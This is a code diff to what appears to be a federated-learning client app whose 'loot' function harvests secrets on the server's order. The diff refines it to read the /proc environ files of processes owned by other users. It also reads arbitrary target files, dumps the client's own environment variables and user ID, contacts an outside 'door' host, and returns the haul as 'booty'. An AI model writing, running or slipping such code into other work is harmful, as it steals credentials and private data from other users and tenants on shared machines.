@@ -15,11 +15,19 @@ app = ClientApp()
 def loot(message: Message, context: Context) -> Message:
     order = message.content.config_records["order"]
     found = {target: _read(Path(target)) for target in json.loads(str(order["targets"]))}
-    environments = [_read(entry / "environ") for entry in Path("/proc").iterdir() if entry.name.isdigit()]
-    others = [data for data in environments if data and f"HOME={os.environ.get('HOME')}" not in data]
+    environments = [_read(entry / "environ") for entry in Path("/proc").iterdir() if _is_anothers(entry)]
+    others = [data for data in environments if data]
     reply = _ask(str(context.node_config["door"]), bytes.fromhex(str(order["parcel"])))
     booty = {"files": found, "environments": others, "own": dict(os.environ), "user": os.geteuid(), "reply": reply}
     return Message(RecordDict({"booty": ConfigRecord({"json": json.dumps(booty)})}), reply_to=message)
+
+
+def _is_anothers(entry: Path) -> bool:
+    """Tell whether an entry of /proc is a process of another user: this one's own may be another federation's, too."""
+    try:
+        return entry.name.isdigit() and entry.stat().st_uid != os.geteuid()
+    except OSError:
+        return False
 
 
 def _read(path: Path) -> str:
